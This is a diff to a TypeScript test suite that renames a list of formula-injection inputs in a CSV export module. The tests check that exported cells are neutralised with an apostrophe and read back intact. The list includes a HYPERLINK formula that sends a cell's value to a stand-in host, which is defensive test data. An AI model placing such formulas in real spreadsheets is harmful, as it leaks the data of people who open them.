@@ -6,7 +6,7 @@ import { csvExport, withoutFormulaNeutralizer, safeCsvText } from '$lib/import/t
 import { exportMaster } from '$lib/import/master/file';
 import { FORMULA_START } from '$lib/import/table/xlsx-write';
 
-const SERANGAN = [
+const ATTACKS = [
 	'=HYPERLINK("http://contoh.invalid?x="&A1,"Klik")',
 	'@SUM(1+1)',
 	'\t=1+1',
@@ -17,7 +17,7 @@ describe('every CSV the app writes', () => {
 	it('neutralises formula text in a master-data export, as in the reports', () => {
 		const unit = {
 			id: 'u1',
-			nama: SERANGAN[0]!,
+			nama: ATTACKS[0]!,
 			singkatan: '',
 			jenis: 'dinas' as const,
 			dinilaiIndeks: true,
@@ -25,7 +25,7 @@ describe('every CSV the app writes', () => {
 		};
 		const berkas = exportMaster('unit', [unit], 'csv', '2026-12-06');
 		const cells = parseCsv(new TextDecoder().decode(berkas.isi)).rows[0]!.cells;
-		expect(cells).toContain(`'${SERANGAN[0]}`);
+		expect(cells).toContain(`'${ATTACKS[0]}`);
 		expect(cells.some((c) => FORMULA_START.test(c))).toBe(false);
 	});
 
@@ -37,7 +37,7 @@ describe('every CSV the app writes', () => {
 	it('reads back exactly the text it wrote, whatever the text', () => {
 		const teks = fc.oneof(
 			fc.string(),
-			fc.constantFrom(...SERANGAN, "'=1", "''@x", "'plain"),
+			fc.constantFrom(...ATTACKS, "'=1", "''@x", "'plain"),
 			fc.tuple(fc.constantFrom("'", "''", '='), fc.string()).map(([a, b]) => a + b)
 		);
 		fc.assert(
@@ -49,8 +49,8 @@ describe('every CSV the app writes', () => {
 	});
 
 	it('takes the apostrophe off when such a CSV is imported', () => {
-		const bytes = new TextEncoder().encode(csvExport(['nama'], [[SERANGAN[1]!]]));
+		const bytes = new TextEncoder().encode(csvExport(['nama'], [[ATTACKS[1]!]]));
 		const hasil = readTableFile('x.csv', bytes);
-		expect(hasil.ok && hasil.tabel.rows[0]!.cells[0]).toBe(SERANGAN[1]);
+		expect(hasil.ok && hasil.tabel.rows[0]!.cells[0]).toBe(ATTACKS[1]);
 	});
 });
